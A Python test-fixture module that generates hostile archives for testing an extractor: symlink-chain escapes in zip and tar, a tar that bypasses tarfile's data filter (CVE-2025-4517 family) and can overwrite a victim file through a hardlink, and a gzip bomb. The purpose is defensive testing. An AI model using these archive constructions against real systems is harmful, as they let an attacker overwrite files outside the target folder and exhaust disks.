"""Hostile archives, made on demand: the tests never check binaries in.

Each function writes one archive that tries to write outside the folder it is
unpacked into, or to exhaust the disk, and returns its path. Run as a script to
write them all into a folder for poking at by hand:

    python -m tests.hostile /tmp/hostile
"""

from __future__ import annotations

import gzip
import io
import stat
import sys
import tarfile
import zipfile
from pathlib import Path

ESCAPED = "escaped.txt"  # the file every escape tries to create beside the destination
PAYLOAD = b"written outside the destination\n"


def _zip_symlink(zipped: zipfile.ZipFile, name: str, target: str) -> None:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix, so the mode below counts
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    zipped.writestr(info, target)


def zip_symlink_chain(path: Path, *, links: int = 3) -> Path:
    """`python/up -> ..`, `python/up/u2 -> ..`, ...: each lexically inside, the chain is not.

    The first link leads back to the destination, each further one a level
    higher; the file at the end lands `links - 1` levels above the destination.
    """
    with zipfile.ZipFile(path, "w") as zipped:
        zipped.writestr("python/bin/python3", "#!/bin/sh\n")
        name = "python/up"
        _zip_symlink(zipped, name, "..")
        for level in range(2, links + 1):
            name = f"{name}/u{level}"
            _zip_symlink(zipped, name, "..")
        zipped.writestr(f"{name}/{ESCAPED}", PAYLOAD)
    return path


def _tar_add(
    tar: tarfile.TarFile, name: str, kind: bytes, *, link: str = "", data: bytes = b""
) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def tar_symlink_chain(path: Path, *, links: int = 3) -> Path:
    """The zip chain above as a tar.gz."""
    with tarfile.open(path, "w:gz") as tar:
        _tar_add(tar, "python/bin/python3", tarfile.REGTYPE, data=b"#!/bin/sh\n")
        name = "python/up"
        _tar_add(tar, name, tarfile.SYMTYPE, link="..")
        for level in range(2, links + 1):
            name = f"{name}/u{level}"
            _tar_add(tar, name, tarfile.SYMTYPE, link="..")
        _tar_add(tar, f"{name}/{ESCAPED}", tarfile.REGTYPE, data=PAYLOAD)
    return path


def filter_bypass_tar(
    path: Path, *, via: str = "file", victim: str = "victim.txt", prefix: str = "", climb: int = 1
) -> Path:
    """The 2025 construction that slips past tarfile's `data` filter (CVE-2025-4517 family).

    Sixteen nested 240-character folders, each reachable through a one-letter
    symlink, put the real path near PATH_MAX while the names stay short. Past
    it `os.path.realpath` can no longer lstat, so it takes the symlink `LLL…`
    (to `../` x 16, the folder `prefix`) for a folder, and
    `escape -> a/b/…/p/LLL…/..` looks inside to the filter while the kernel
    resolves it `climb` levels above `<destination>/<prefix>`.

    `via="file"` then writes `escape/escaped.txt`; `via="hardlink"` links
    `escape/<victim>` (an existing file up there) into the tree and writes
    through the link, overwriting the victim. Every name starts with `prefix`
    (`"python/"` makes it look like a runtime). Works while the destination's
    path is shorter than about 230 characters.
    """
    steps = "abcdefghijklmnop"
    component = "d" * 240
    long_link = "l" * 254
    up = "/".join([".."] * climb)
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        real = prefix
        for letter in steps:
            _tar_add(tar, f"{real}{component}", tarfile.DIRTYPE)
            _tar_add(tar, f"{real}{letter}", tarfile.SYMTYPE, link=component)
            real = f"{real}{component}/"
        short = prefix + "/".join(steps)
        _tar_add(tar, f"{short}/{long_link}", tarfile.SYMTYPE, link="../" * len(steps))
        _tar_add(
            tar, f"{prefix}escape", tarfile.SYMTYPE, link=f"{'/'.join(steps)}/{long_link}/{up}"
        )
        if via == "hardlink":
            through = f"{prefix}through"
            _tar_add(tar, through, tarfile.LNKTYPE, link=f"{prefix}escape/{victim}")
            _tar_add(tar, through, tarfile.REGTYPE, data=PAYLOAD)
        else:
            _tar_add(tar, f"{prefix}escape/{ESCAPED}", tarfile.REGTYPE, data=PAYLOAD)
    return path


class _Zeros(io.RawIOBase):
    """`size` zero bytes, produced as they are read: the bomb is never held in memory."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def gzip_bomb(path: Path, *, unpacked: int, name: str = "python/lib/zeros.bin") -> Path:
    """A tar.gz holding one file of `unpacked` zero bytes (about 1/1000 of that on disk)."""
    with gzip.open(path, "wb", compresslevel=9) as raw, tarfile.open(fileobj=raw, mode="w|") as tar:
        info = tarfile.TarInfo(name)
        info.size = unpacked
        tar.addfile(info, io.BufferedReader(_Zeros(unpacked)))
    return path


def many_entries(path: Path, *, count: int) -> Path:
    """A tar.gz of `count` empty files under `python/`."""
    with tarfile.open(path, "w:gz") as tar:
        for i in range(count):
            _tar_add(tar, f"python/f{i}", tarfile.REGTYPE)
    return path


def main(folder: str) -> None:
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    zip_symlink_chain(out / "chain.zip")
    tar_symlink_chain(out / "chain.tar.gz")
    filter_bypass_tar(out / "bypass-file.tar.gz")
    filter_bypass_tar(out / "bypass-hardlink.tar.gz", via="hardlink")
    gzip_bomb(out / "bomb.tar.gz", unpacked=1 << 30)
    many_entries(out / "entries.tar.gz", count=1000)
    print(f"hostile archives written to {out}")


if __name__ == "__main__":
    main(sys.argv[1])
